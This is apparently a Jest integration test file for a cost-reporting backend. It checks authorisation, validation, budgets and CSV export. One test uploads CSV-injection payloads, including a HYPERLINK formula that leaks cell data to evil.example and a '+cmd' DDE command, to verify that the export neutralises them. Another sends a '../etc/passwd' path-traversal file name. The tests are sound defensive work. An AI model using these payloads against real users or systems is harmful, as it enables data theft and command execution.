import { gzipSync } from 'node:zlib';
import {
  createTestDatabases,
  focusCsv,
  focusTestRow,
} from '@ai-platform/test-utils';
import { mockCredentials } from '@backstage/backend-test-utils';
import request from 'supertest';
import { users } from '../__fixtures__/entities';
import {
  as,
  startTestCostBackend,
} from '../__testUtils__/startTestCostBackend';

jest.setTimeout(120_000);

const databases = createTestDatabases();

const team = (name: string, component?: string) =>
  JSON.stringify({
    'ai-platform.io/team': name,
    ...(component ? { 'backstage.io/entity-ref': component } : {}),
  });

const billing = focusCsv([
  focusTestRow({
    BilledCost: '100',
    Tags: team('search-relevance', 'search-ranker-training'),
  }),
  focusTestRow({
    BilledCost: '40',
    ServiceName: 'Amazon S3',
    Tags: team('search-relevance'),
  }),
  focusTestRow({
    BilledCost: '60',
    ProviderName: 'Microsoft',
    BillingAccountId: 'ms-1',
    ServiceName: 'Virtual Machines',
    Tags: team('conversational-ai', 'assistant-api'),
  }),
  focusTestRow({
    BilledCost: '25',
    ChargePeriodStart: '2024-09-10T00:00:00Z',
    ChargePeriodEnd: '2024-09-11T00:00:00Z',
    Tags: team('ml-platform'),
  }),
  focusTestRow({
    BilledCost: '5',
    ChargePeriodStart: '2024-08-30T00:00:00Z',
    ChargePeriodEnd: '2024-08-31T00:00:00Z',
    BillingPeriodStart: '2024-08-01T00:00:00Z',
    BillingPeriodEnd: '2024-09-01T00:00:00Z',
    Tags: team('search-relevance'),
  }),
  focusTestRow({
    BilledCost: '3',
    ServiceName: 'Support',
    SubAccountId: 'sub-unmapped',
    Tags: '',
  }),
]);

const range = 'from=2024-09-01&to=2024-09-30';

describe.each(databases.eachSupportedId())('cost router on %p', databaseId => {
  let server: Awaited<ReturnType<typeof startTestCostBackend>>['server'];
  let auditEvents: Awaited<
    ReturnType<typeof startTestCostBackend>
  >['auditEvents'];

  beforeAll(async () => {
    const knex = await databases.init(databaseId);
    ({ server, auditEvents } = await startTestCostBackend({ knex }));
    const upload = await request(server)
      .post('/api/cost/ingest/upload?fileName=sept.csv.gz')
      .set(...as(users.fin))
      .set('Content-Type', 'application/gzip')
      .send(gzipSync(Buffer.from(billing)));
    if (upload.status !== 200) {
      throw new Error(`seed upload failed: ${JSON.stringify(upload.body)}`);
    }
  });

  it('needs credentials', async () => {
    const res = await request(server).get(
      `/api/cost/costs?entityRef=group:default/products&${range}`,
    );
    expect(res.status).toBe(401);
  });

  it.each([
    [
      'from=2024-13-01&to=2024-09-30&entityRef=group:default/products',
      /from: is not a valid calendar date|from: must be/,
    ],
    [
      'from=2024-09-30&to=2024-09-01&entityRef=group:default/products',
      /to: must not be before from/,
    ],
    [`${range}&entityRef=not a ref`, /entityRef: must be an entity ref/],
    [
      `${range}&entityRef=group:default/products&granularity=year`,
      /granularity/,
    ],
    [
      `${range}&entityRef=group:default/products&bogus=1`,
      /bogus: unknown parameter/,
    ],
    [range, /entityRef/],
  ])('answers 400 naming the field for %s', async (query, message) => {
    const res = await request(server)
      .get(`/api/cost/costs?${query}`)
      .set(...as(users.fin));
    expect(res.status).toBe(400);
    expect(res.body.error.message).toMatch(message);
  });

  it('shows a team its own costs, split by service', async () => {
    const res = await request(server)
      .get(
        `/api/cost/costs?entityRef=group:default/search-relevance&${range}&splitBy=service&granularity=month`,
      )
      .set(...as(users.sam));
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      entityRef: 'group:default/search-relevance',
      subjectKind: 'group',
      total: 140,
      currency: 'USD',
      points: [{ date: '2024-09-01', amount: 140 }],
      change: { previousTotal: 5, amount: 135, ratio: 27 },
    });
    expect(
      res.body.series.map((s: { key: string; total: number }) => [
        s.key,
        s.total,
      ]),
    ).toEqual([
      ['Amazon EC2', 100],
      ['Amazon S3', 40],
    ]);
  });

  it('rolls a department up by child team for its members (managers)', async () => {
    const res = await request(server)
      .get(
        `/api/cost/costs?entityRef=group:default/products&${range}&splitBy=childTeam&granularity=week`,
      )
      .set(...as(users.pat));
    expect(res.status).toBe(200);
    expect(res.body.total).toBe(200);
    expect(
      res.body.series.map(
        (s: { key: string; label: string; total: number }) => [
          s.key,
          s.label,
          s.total,
        ],
      ),
    ).toEqual([
      ['group:default/search-relevance', 'search relevance', 140],
      ['group:default/conversational-ai', 'conversational ai', 60],
    ]);
    // Weeks start on Monday: 2024-09-01 is a Sunday.
    expect(res.body.points.slice(0, 2)).toEqual([
      { date: '2024-08-26', amount: 0 },
      { date: '2024-09-02', amount: 200 },
    ]);
  });

  it('lets a manager read a team below, not a team member read the department or a sibling', async () => {
    const below = await request(server)
      .get(`/api/cost/costs?entityRef=group:default/search-relevance&${range}`)
      .set(...as(users.pat));
    expect(below.status).toBe(200);
    for (const ref of [
      'group:default/products',
      'group:default/conversational-ai',
    ]) {
      const res = await request(server)
        .get(`/api/cost/costs?entityRef=${ref}&${range}`)
        .set(...as(users.sam));
      expect(res.status).toBe(403);
      expect(res.body.error.message).toMatch(/may not read the costs/);
    }
  });

  it('shows an entity its owner team may read', async () => {
    const res = await request(server)
      .get(
        `/api/cost/costs?entityRef=component:default/search-ranker-training&${range}`,
      )
      .set(...as(users.sam));
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ subjectKind: 'entity', total: 100 });
    const denied = await request(server)
      .get(`/api/cost/costs?entityRef=component:default/assistant-api&${range}`)
      .set(...as(users.sam));
    expect(denied.status).toBe(403);
  });

  it('counts unallocated cost in the organisation, apart from its departments', async () => {
    const res = await request(server)
      .get(
        `/api/cost/costs?entityRef=group:default/acme&${range}&splitBy=childTeam`,
      )
      .set(...as(users.fin));
    expect(res.status).toBe(200);
    expect(
      res.body.series.map((s: { key: string; total: number }) => [
        s.key,
        s.total,
      ]),
    ).toEqual([
      ['group:default/products', 200],
      ['group:default/infrastructure', 25],
      ['unallocated', 3],
    ]);
  });

  it('lists top spenders and the groups a user may read', async () => {
    const top = await request(server)
      .get(
        `/api/cost/top-spenders?entityRef=group:default/acme&${range}&by=team&limit=2`,
      )
      .set(...as(users.fin));
    expect(top.status).toBe(200);
    expect(top.body.items).toEqual([
      {
        key: 'group:default/search-relevance',
        label: 'search relevance',
        amount: 140,
        previousAmount: 5,
      },
      {
        key: 'group:default/conversational-ai',
        label: 'conversational ai',
        amount: 60,
        previousAmount: 0,
      },
    ]);
    const groups = await request(server)
      .get('/api/cost/groups')
      .set(...as(users.pat));
    expect(groups.body.groups.map((g: { ref: string }) => g.ref)).toEqual([
      'group:default/conversational-ai',
      'group:default/products',
      'group:default/search-relevance',
    ]);
  });

  it('exports a report as CSV', async () => {
    const res = await request(server)
      .get(
        `/api/cost/costs/export.csv?entityRef=group:default/products&${range}&granularity=month&splitBy=provider`,
      )
      .set(...as(users.pat));
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/text\/csv/);
    expect(res.text).toBe(
      'date,key,label,amount,currency\r\n2024-09-01,AWS,AWS,140,USD\r\n2024-09-01,Microsoft,Microsoft,60,USD\r\n',
    );
  });

  it('keeps ingest and the FOCUS export for admins', async () => {
    const upload = await request(server)
      .post('/api/cost/ingest/upload?fileName=x.csv')
      .set(...as(users.pat))
      .set('Content-Type', 'text/csv')
      .send(billing);
    expect(upload.status).toBe(403);
    const status = await request(server)
      .get('/api/cost/ingest/status')
      .set(...as(users.sam));
    expect(status.status).toBe(403);
    const focus = await request(server)
      .get(`/api/cost/kubernetes/focus.csv?${range}`)
      .set(...as(users.sam));
    expect(focus.status).toBe(403);
    const admin = await request(server)
      .get('/api/cost/ingest/status')
      .set(...as(users.fin));
    expect(admin.status).toBe(200);
    expect(admin.body.runs[0]).toMatchObject({
      fileName: 'sept.csv.gz',
      status: 'succeeded',
      rowsIngested: 6,
      percent: 100,
    });
    expect(auditEvents).toContainEqual(
      expect.objectContaining({
        eventId: 'billing-upload',
        status: 'succeeded',
      }),
    );
  });

  it('refuses a malformed upload with 422 and a report, and keeps the data', async () => {
    const res = await request(server)
      .post('/api/cost/ingest/upload?fileName=bad.csv')
      .set(...as(users.fin))
      .set('Content-Type', 'text/csv')
      .send(focusCsv([focusTestRow({ BilledCost: 'ten' })]));
    expect(res.status).toBe(422);
    expect(res.body.errors).toEqual([
      { line: 2, column: 'BilledCost', reason: 'not a decimal number: "ten"' },
    ]);
    expect(res.body.status).toBe('refused');
    // A refused upload leaves the database as it was: the run is in the answer only.
    const run = await request(server)
      .get(`/api/cost/ingest/runs/${res.body.id}`)
      .set(...as(users.fin));
    expect(run.status).toBe(404);
    const costs = await request(server)
      .get(`/api/cost/costs?entityRef=group:default/acme&${range}`)
      .set(...as(users.fin));
    expect(costs.body.total).toBe(228);
    const badName = await request(server)
      .post('/api/cost/ingest/upload?fileName=../etc/passwd')
      .set(...as(users.fin))
      .send('x');
    expect(badName.status).toBe(400);
    expect(badName.body.error.message).toMatch(/fileName: must be a file name/);
  });

  it.each([
    ['post', '/budgets'],
    ['put', '/budgets/00000000-0000-4000-8000-000000000000'],
    ['delete', '/budgets/00000000-0000-4000-8000-000000000000'],
    ['post', '/ingest/upload?fileName=x.csv'],
    ['post', '/ingest/scan'],
  ] as const)(
    'refuses a service principal on %s %s with 403 before reading the body',
    async (method, path) => {
      const res = await request(server)
        [method](`/api/cost${path}`)
        .set('Authorization', mockCredentials.service.header())
        .set('Content-Type', 'application/json')
        // Not even valid JSON: the refusal comes before parsing.
        .send('{');
      expect(res.status).toBe(403);
    },
  );

  it('lets a service principal read', async () => {
    const res = await request(server)
      .get(`/api/cost/costs?entityRef=group:default/products&${range}`)
      .set('Authorization', mockCredentials.service.header());
    expect(res.status).toBe(200);
    expect(res.body.total).toBe(200);
  });

  it('neutralises formulas in the CSV export and keeps negative amounts as numbers', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "+cmd|' /C calc'!A0",
      '@SUM(1)',
      '-1+1',
    ];
    const july = (overrides: Record<string, string>) =>
      focusTestRow({
        BillingAccountId: 'acct-july',
        BillingPeriodStart: '2024-07-01T00:00:00Z',
        BillingPeriodEnd: '2024-08-01T00:00:00Z',
        ChargePeriodStart: '2024-07-10T00:00:00Z',
        ChargePeriodEnd: '2024-07-11T00:00:00Z',
        Tags: JSON.stringify({
          'ai-platform.io/team': 'search-relevance',
          'ai-platform.io/cost-center': "+cmd|' /C calc'!A0",
        }),
        ...overrides,
      });
    const upload = await request(server)
      .post('/api/cost/ingest/upload?fileName=july.csv')
      .set(...as(users.fin))
      .set('Content-Type', 'text/csv')
      .send(
        focusCsv([
          ...hostile.map(name => july({ ServiceName: name, BilledCost: '3' })),
          july({ ServiceName: 'Credits', BilledCost: '-12.5' }),
        ]),
      );
    expect(upload.status).toBe(200);
    const res = await request(server)
      .get(
        '/api/cost/costs/export.csv?entityRef=group:default/search-relevance&from=2024-07-01&to=2024-07-31&granularity=month&splitBy=service',
      )
      .set(...as(users.sam));
    expect(res.status).toBe(200);
    const lines = res.text.trim().split('\r\n');
    expect(lines).toEqual(
      expect.arrayContaining([
        `2024-07-01,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",3,USD`,
        "2024-07-01,'+cmd|' /C calc'!A0,'+cmd|' /C calc'!A0,3,USD",
        "2024-07-01,'@SUM(1),'@SUM(1),3,USD",
        "2024-07-01,'-1+1,'-1+1,3,USD",
        '2024-07-01,Credits,Credits,-12.5,USD',
      ]),
    );
    // No cell starts with a formula character, except the real negative number.
    for (const line of lines.slice(1)) {
      expect(line).not.toMatch(/(^|,)[=+@\t\r]/);
    }
  });

  it("answers the get-costs action with the caller's permissions", async () => {
    const invoke = (user: string, input: object) =>
      request(server)
        .post('/api/cost/.backstage/actions/v1/actions/cost:get-costs/invoke')
        .set(...as(user))
        .send(input);
    const ok = await invoke(users.pat, {
      entityRef: 'group:default/products',
      from: '2024-09-01',
      to: '2024-09-30',
      granularity: 'month',
      splitBy: 'childTeam',
    });
    expect(ok.status).toBe(200);
    expect(ok.body.output).toMatchObject({
      entityRef: 'group:default/products',
      total: 200,
      points: [{ date: '2024-09-01', amount: 200 }],
      series: [
        { key: 'group:default/search-relevance', total: 140 },
        { key: 'group:default/conversational-ai', total: 60 },
      ],
    });
    const denied = await invoke(users.sam, {
      entityRef: 'group:default/products',
      from: '2024-09-01',
      to: '2024-09-30',
    });
    expect(denied.status).toBe(403);
    const invalid = await invoke(users.pat, {
      entityRef: 'group:default/products',
      from: '2024-09-31',
      to: '2024-09-30',
    });
    expect(invalid.status).toBe(400);
    expect(invalid.body.error.message).toMatch(
      /from: is not a valid calendar date/,
    );
  });

  it('lets managers and admins manage budgets, not the team itself', async () => {
    const body = { groupRef: 'group:default/search-relevance', amount: 1000 };
    const denied = await request(server)
      .post('/api/cost/budgets')
      .set(...as(users.sam))
      .send(body);
    expect(denied.status).toBe(403);
    const invalid = await request(server)
      .post('/api/cost/budgets')
      .set(...as(users.pat))
      .send({ groupRef: 'group:default/search-relevance', amount: -5 });
    expect(invalid.status).toBe(400);
    expect(invalid.body.error.message).toMatch(
      /amount: must be greater than 0/,
    );
    // Past what a 64-bit integer of nano-units holds: refused, not rounded.
    const tooLarge = await request(server)
      .post('/api/cost/budgets')
      .set(...as(users.pat))
      .send({ ...body, amount: 1e10 });
    expect(tooLarge.status).toBe(400);
    expect(tooLarge.body.error.message).toMatch(/amount: must be at most/);
    // The schema's maximum is one the nano-unit store holds: the boundary.
    const boundaryRef = 'group:default/conversational-ai';
    const justOver = await request(server)
      .post('/api/cost/budgets')
      .set(...as(users.pat))
      .send({ groupRef: boundaryRef, amount: 9e9 + 0.01 });
    expect(justOver.status).toBe(400);
    expect(justOver.body.error.message).toMatch(
      /amount: must be at most 9000000000/,
    );
    const largest = await request(server)
      .post('/api/cost/budgets')
      .set(...as(users.pat))
      .send({ groupRef: boundaryRef, amount: 9e9 - 0.01 });
    expect(largest.status).toBe(201);
    expect(largest.body.amount).toBe(9e9 - 0.01);
    const atMax = await request(server)
      .put(`/api/cost/budgets/${largest.body.id}`)
      .set(...as(users.pat))
      .send({ groupRef: boundaryRef, amount: 9e9 });
    expect(atMax.status).toBe(200);
    expect(atMax.body.amount).toBe(9e9);
    const removedLargest = await request(server)
      .delete(`/api/cost/budgets/${largest.body.id}`)
      .set(...as(users.pat));
    expect(removedLargest.status).toBe(204);
    const created = await request(server)
      .post('/api/cost/budgets')
      .set(...as(users.pat))
      .send(body);
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({
      ...body,
      currency: 'USD',
      updatedBy: users.pat,
    });
    const duplicate = await request(server)
      .post('/api/cost/budgets')
      .set(...as(users.pat))
      .send(body);
    expect(duplicate.status).toBe(409);
    const updated = await request(server)
      .put(`/api/cost/budgets/${created.body.id}`)
      .set(...as(users.fin))
      .send({ ...body, amount: 50 });
    expect(updated.status).toBe(200);
    const listed = await request(server)
      .get('/api/cost/budgets')
      .set(...as(users.sam));
    expect(listed.body.budgets).toEqual([
      expect.objectContaining({
        groupRef: body.groupRef,
        amount: 50,
        overBudget: false,
      }),
    ]);
    const missing = await request(server)
      .delete('/api/cost/budgets/00000000-0000-4000-8000-000000000000')
      .set(...as(users.fin));
    expect(missing.status).toBe(404);
    const removed = await request(server)
      .delete(`/api/cost/budgets/${created.body.id}`)
      .set(...as(users.pat));
    expect(removed.status).toBe(204);
    expect(auditEvents.map(e => `${e.eventId}:${e.status}`)).toEqual(
      expect.arrayContaining([
        'budget-create:failed',
        'budget-create:succeeded',
        'budget-update:succeeded',
        'budget-delete:succeeded',
      ]),
    );
  });
});
